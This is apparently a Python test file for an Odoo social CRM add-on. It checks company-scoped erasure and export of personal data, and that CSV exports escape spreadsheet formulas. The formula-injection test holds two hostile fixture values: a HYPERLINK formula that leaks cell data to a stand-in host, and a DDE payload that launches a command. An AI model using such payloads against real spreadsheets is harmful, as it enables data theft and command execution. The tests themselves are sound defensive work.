# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Issue 23, privacy half: erasure and export stay inside one company and one person.

Each finding is performed the way the insider did it (``with_user``), and each
erasure is checked for what it must leave alone.
"""

import base64
import csv
import io
import json
import zipfile
from datetime import timedelta
from types import SimpleNamespace

from odoo import fields
from odoo.exceptions import AccessError
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.social_crm.connectors.models import Author

from .common import TwoCompaniesCase
from .test_privacy import PrivacyCase, analyzed_as

ERASED = "[erased on request]"
# She writes to both companies.
ANNA = Author(
    external_id="did:plc:anna-w",
    handle="anna",
    name="Anna",
    profile_url="https://bsky.app/profile/anna",
)


def read_export(env, action):
    attachment = env["ir.attachment"].browse(int(action["url"].split("/")[3].split("?")[0]))
    archive = zipfile.ZipFile(io.BytesIO(base64.b64decode(attachment.datas)))
    data = json.loads(archive.read("social_data.json"))
    raw = {name: archive.read(f"{name}.csv").decode() for name in data}
    return attachment, data, raw


class CompaniesCase(TwoCompaniesCase, PrivacyCase):
    def anna_in(self, account, text, ext):
        with analyzed_as("negative", "complaint"):
            return self.ingest([self.item(ext, text, ANNA)], account=account)


@tagged("social_crm", "social_crm_privacy", "post_install", "-at_install")
class TestPrivacyCompanyWall(CompaniesCase):
    """Findings 1 and 2: a manager of one company erased and exported another company's people."""

    @mute_logger("odoo.access")
    def test_other_company_manager_cannot_erase_by_id(self):
        mention_a = self.anna_in(self.account, "My parcel to Main St 5 never came", "at://did:plc:anna-w/post/1")
        identity_a = mention_a.identity_id
        # The ids are sequential: company B's manager tries company A's identity by id, every way there is.
        stranger = self.env["social_crm.identity"].with_user(self.manager_b).browse(identity_a.id)
        with self.assertRaises(AccessError):
            stranger.action_erase()
        with self.assertRaises(AccessError):
            stranger.action_open_erase_wizard()
        wizard = self.env["social_crm.erase.wizard"].with_user(self.manager_b).create({"identity_ids": identity_a.ids})
        with self.assertRaises(AccessError):
            wizard.action_erase()
        self.assertFalse(identity_a.erased_at)
        self.assertEqual(identity_a.name, "Anna")
        self.assertIn("Main St 5", mention_a.body)
        # Their own manager may.
        self.assertEqual(identity_a.with_user(self.social_manager).action_erase(), 1)
        self.assertEqual(mention_a.body, ERASED)

    def test_export_of_a_shared_contact_gives_each_company_its_own_data(self):
        shared = self.env["res.partner"].create({"name": "Anna Shared"})  # no company: both see it
        mention_a = self.anna_in(self.account, "Private: my address is Main St 5", "at://did:plc:anna-w/post/1")
        mention_b = self.anna_in(self.account_b, "hello B, my order is late", "at://did:plc:anna-w/post/2")
        (mention_a.identity_id | mention_b.identity_id).sudo().write({"partner_id": shared.id})
        _attachment, data, raw = read_export(self.env, shared.with_user(self.manager_b).action_export_social_data())
        self.assertEqual([row["id"] for row in data["identities"]], mention_b.identity_id.ids)
        self.assertEqual([row["body"] for row in data["mentions"]], ["hello B, my order is late"])
        self.assertNotIn("Main St", json.dumps(data) + "".join(raw.values()))
        # Company A's manager gets A's part only.
        _attachment, data, _raw = read_export(
            self.env, shared.with_user(self.social_manager).action_export_social_data()
        )
        self.assertEqual([row["body"] for row in data["mentions"]], ["Private: my address is Main St 5"])

    @mute_logger("odoo.access")
    def test_other_company_manager_cannot_export_by_id(self):
        mention_a = self.anna_in(self.account, "Private: my address is Main St 5", "at://did:plc:anna-w/post/1")
        with self.assertRaises(AccessError):
            mention_a.identity_id.with_user(self.manager_b).action_export_social_data()


@tagged("social_crm", "social_crm_privacy", "post_install", "-at_install")
class TestErasureLeavesOthersAlone(CompaniesCase):
    """Finding 4: erasing "Anna" rewrote an unrelated ticket's note; names are not identifiers elsewhere."""

    def test_unrelated_records_survive(self):
        mine = self.anna_in(self.account, "Anna here: my parcel never came", "at://did:plc:anna-w/post/1")
        identity = mine.identity_id
        # A plain ticket, nothing social, where a colleague named a customer called Anna.
        ticket = self.env["helpdesk.ticket"].create(
            {"name": "Invoice for Anna", "description": "<p>Call Anna back tomorrow about the invoice</p>"}
        )
        ticket.message_post(body="Call Anna back tomorrow about the invoice", message_type="comment")
        note = ticket.message_ids[:1]
        # Another person's post naming another Anna, and one naming her by handle.
        with analyzed_as("positive", "praise"):
            other = self.ingest([self.item("at://did:plc:olek/post/7", "Anna at the shop was so kind", self.olek)])
        with analyzed_as("negative", "complaint"):
            by_handle = self.ingest([self.item("at://did:plc:olek/post/8", "@anna did they answer you?", self.olek)])
        olek_ticket = by_handle.ticket_id | by_handle.thread_id.ticket_id
        self.assertTrue(olek_ticket, "Olek's complaint has its own ticket")
        olek_ticket.message_post(body="Olek says @anna & Anna know each other", message_type="comment")
        olek_note = olek_ticket.message_ids[:1]
        # Company B's identity of the same handle, with its own post.
        theirs = self.anna_in(self.account_b, "@anna again, B: my parcel never came", "at://did:plc:anna-w/post/9")
        identity.with_user(self.social_manager).action_erase()
        self.assertEqual(mine.body, ERASED)
        self.assertEqual(ticket.name, "Invoice for Anna")
        self.assertIn("Call Anna back tomorrow about the invoice", ticket.description)
        self.assertIn("Call Anna back tomorrow about the invoice", note.body)
        self.assertEqual(other.body, "Anna at the shop was so kind")
        self.assertIn("Anna at the shop", other.thread_id.name)
        self.assertEqual(by_handle.body, f"{ERASED} did they answer you?", "a unique identifier goes everywhere")
        # Olek's ticket and conversation keep his words; only her @handle goes, and her name stays a name.
        self.assertIn("did they answer you?", olek_ticket.description)
        self.assertNotIn("@anna", olek_ticket.description + olek_ticket.name + by_handle.thread_id.name)
        self.assertIn(ERASED, olek_ticket.description)
        self.assertEqual(str(olek_note.body), f"<p>Olek says {ERASED} &amp; Anna know each other</p>")
        self.assertEqual(theirs.identity_id.handle, "anna")
        self.assertEqual(theirs.identity_id.name, "Anna")
        self.assertEqual(theirs.body, "@anna again, B: my parcel never came")
        self.assertEqual(theirs.identity_id.external_id, "did:plc:anna-w")
        self.assertFalse(theirs.identity_id.erased_at)


@tagged("social_crm", "social_crm_privacy", "post_install", "-at_install")
class TestErasureReachesEverything(PrivacyCase):
    """Finding 5: raw payloads, alerts, approval notes, earlier exports and attachment indexes kept her data."""

    def event(self, event_id, payload, state="done", days=0):
        return (
            self.env["social_crm.event"]
            .sudo()
            .create(
                {
                    "account_id": self.account.id,
                    "event_id": event_id,
                    "payload": payload,
                    "state": state,
                    "received_at": fields.Datetime.now() - timedelta(days=days),
                }
            )
        )

    def test_erasure_removes_payloads_alerts_notes_exports_and_indexes(self):
        identity, thread, ticket, _elsewhere = self.make_person()
        first = identity.mention_ids.sorted("posted_at")[:1]
        hers = self.event("e1", {"author": {"did": "did:plc:janina-k", "name": "Janina Kowalska"}, "text": "leaked"})
        his = self.event("e2", {"author": {"did": "did:plc:olek", "name": "Olek Nowak"}, "text": "mine too"})
        result = SimpleNamespace(count=3, baseline_mean=0.5, threshold=2.0)
        alert = self.env["social_crm.alert"]._raise(self.account, result, first | _elsewhere, first.posted_at, 60)
        self.assertIn("Janina Kowalska", alert.message_ids[-1:].body + alert.message_ids[:1].body)
        reply = (
            self.env["social_crm.reply"]
            .with_user(self.social_user)
            .create(
                {
                    "thread_id": thread.id,
                    "parent_mention_id": first.id,
                    "body": "Dear Janina Kowalska, a new one is coming",
                }
            )
        )
        reply.sudo()._request_approval("A reply to approve:")
        activities = reply.sudo().activity_ids
        self.assertIn("Janina Kowalska", "".join(str(a.note) for a in activities))
        export = read_export(self.env, identity.with_user(self.social_manager).action_export_social_data())[0]
        attachment = self.env["ir.attachment"].create(
            {
                "name": "letter.txt",
                "raw": b"Letter from Janina Kowalska, janina.test: the machine leaked",
                "mimetype": "text/plain",
                "res_model": "helpdesk.ticket",
                "res_id": ticket.id,
            }
        )
        self.assertIn("Janina", attachment.sudo().index_content)

        identity.with_user(self.social_manager).action_erase()
        self.assertFalse(hers.exists(), "her raw webhook payload goes")
        self.assertTrue(his.exists(), "another person's payload stays")
        bodies = "".join(str(m.body) for m in alert.message_ids)
        self.assertNotIn("Janina", bodies)
        self.assertNotIn("leaked twice", bodies)
        self.assertIn(ERASED, bodies)
        self.assertTrue(activities.exists())
        self.assertNotIn("Janina", "".join(str(a.note) for a in activities))
        self.assertFalse(export.exists(), "earlier exports of her go")
        self.assertFalse(attachment.sudo().index_content)
        log = self.env["privacy.log"].search([], order="id desc", limit=1)
        self.assertIn("1 webhook payloads", log.execution_details)

    def test_retention_deletes_processed_payloads(self):
        old_done = self.event("old-done", {"text": "old"}, days=60)
        old_failed = self.event("old-failed", {"text": "old"}, state="failed", days=60)
        old_pending = self.event("old-pending", {"text": "waiting"}, state="pending", days=60)
        recent = self.event("recent", {"text": "new"}, days=2)
        self.env.company.write({"social_crm_retention_limited": True, "social_crm_retention_days": 30})
        self.env["social_crm.mention"]._cron_apply_retention()
        self.assertFalse((old_done | old_failed).exists())
        self.assertEqual((old_pending | recent).exists(), old_pending | recent)


@tagged("social_crm", "social_crm_privacy", "post_install", "-at_install")
class TestExportContents(PrivacyCase):
    """Finding 8 (others in shared conversations) and finding 9 (formula injection in the CSV files)."""

    def test_other_participants_appear_without_anything_identifying_them(self):
        identity, thread, _ticket, _elsewhere = self.make_person()
        _attachment, data, raw = read_export(
            self.env, identity.with_user(self.social_manager).action_export_social_data()
        )
        others = [row for row in data["mentions"] if row["body"] == "[another participant]"]
        self.assertEqual(len(others), 1)
        self.assertEqual({row["author_name"] for row in others}, {"[another participant]"})
        self.assertFalse(others[0]["author_handle"] or others[0]["external_id"] or others[0]["url"])
        everything = json.dumps(data) + "".join(raw.values())
        for olek in ("Olek", "olek.test", "did:plc:olek", "mine leaked too"):
            self.assertNotIn(olek, everything)
        # What the brand wrote to her is there.
        self.assertIn("Sorry Janina Kowalska, we are on it", everything)

    def test_csv_cells_cannot_run_as_formulas(self):
        formula = '=HYPERLINK("http://evil.test/?leak="&A1,"refund")'
        with analyzed_as("negative", "complaint"):
            mention = self.ingest([self.item("at://did:plc:janina-k/post/f", formula, self.janina)])
        mention.identity_id.sudo().bio = "@SUM(1+1)*cmd|' /C calc'!A0"
        _attachment, data, raw = read_export(
            self.env, mention.identity_id.with_user(self.social_manager).action_export_social_data()
        )
        rows = list(csv.DictReader(io.StringIO(raw["mentions"])))
        self.assertEqual(rows[0]["body"], "'" + formula)
        identities = list(csv.DictReader(io.StringIO(raw["identities"])))
        self.assertTrue(identities[0]["bio"].startswith("'@"))
        self.assertEqual(data["mentions"][0]["body"], formula, "the JSON file keeps the text as it is")
